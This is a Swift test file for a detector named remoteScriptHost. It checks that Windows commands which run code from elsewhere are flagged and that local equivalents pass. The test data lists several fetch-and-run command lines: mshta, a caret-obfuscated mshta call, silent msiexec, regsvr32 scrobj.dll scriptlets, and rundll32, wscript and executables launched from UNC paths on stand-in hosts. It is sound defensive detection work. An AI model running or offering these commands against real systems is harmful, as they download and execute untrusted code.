import Testing

@testable import Guard

/// `Signal.remoteScriptHost`.
struct RemoteScriptHostTests {
  @Test(arguments: [
    "mshta http://fix.example/a.hta",
    "m^shta vbscript:Close",
    "MSIEXEC /i https://fix.example/a.msi /qn",
    "regsvr32 /s /i:http://fix.example/a.sct scrobj.dll",
    #"rundll32 \\203.0.113.7@80\a\b.dll,Run"#,
    #"wscript \\203.0.113.7\a\b.vbs"#,
    #"\\203.0.113.7\a\setup.exe"#,
  ])
  func `a part of Windows that runs something from elsewhere is held`(text: String) {
    #expect(Signal.remoteScriptHost.severity(of: text) == .hold)
  }

  @Test(arguments: [
    #"mshta C:\Tools\a.hta"#,
    "msiexec /i setup.msi",
    "regsvr32 /s oleaut32.dll",
    "rundll32 shell32.dll,Control_RunDLL",
    "wine setup.exe",
  ])
  func `local files are harmless`(text: String) {
    #expect(Signal.remoteScriptHost.severity(of: text) == nil)
  }
}
